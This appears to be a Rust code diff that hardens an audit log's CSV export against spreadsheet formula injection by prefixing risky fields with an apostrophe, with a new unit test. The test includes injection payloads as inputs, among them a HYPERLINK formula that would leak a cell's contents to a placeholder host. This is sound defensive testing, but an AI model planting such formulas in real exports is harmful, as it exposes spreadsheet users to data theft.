@@ -368,12 +368,21 @@ impl AuditLog {
 }
 
 /// RFC 4180: quote a field holding a comma, quote, CR or LF; double inner quotes.
-/// Fields are otherwise exact, so another system can recompute the hashes.
+/// A CSV export is opened in spreadsheets, and much of an event is text its writer
+/// chose (a reason, `$USER`, a label): a field a spreadsheet would evaluate as a formula
+/// (first character `=`, `+`, `-`, `@`, tab or CR: OWASP's list) gets a leading `'`,
+/// which spreadsheets show as text. `json` and `jsonl` stay exact, for recomputing the
+/// hashes.
 pub fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    };
     if s.contains([',', '"', '\r', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s
     }
 }
 
@@ -474,5 +483,20 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn csv_never_starts_a_field_a_spreadsheet_would_evaluate() {
+        assert_eq!(csv_field("=1+1"), "'=1+1");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"https://x/?\"&A2,\"x\")"),
+            "\"'=HYPERLINK(\"\"https://x/?\"\"&A2,\"\"x\"\")\""
+        );
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("+cmd"), "'+cmd");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_field("\r=x"), "\"'\r=x\"");
+        assert_eq!(csv_field("a=b"), "a=b");
     }
 }
